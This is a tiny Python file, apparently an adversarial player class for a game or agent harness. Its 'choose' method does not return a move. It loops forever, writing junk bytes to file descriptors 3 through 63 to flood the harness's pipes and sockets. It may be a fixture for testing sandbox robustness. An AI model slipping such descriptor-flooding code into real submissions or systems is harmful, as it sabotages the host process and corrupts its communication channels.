import os


class FloodsTheTalk:
    def choose(self, view):
        while True:
            for number in range(3, 64):
                try:
                    os.write(number, b"x" * 4096)
                except OSError:
                    continue
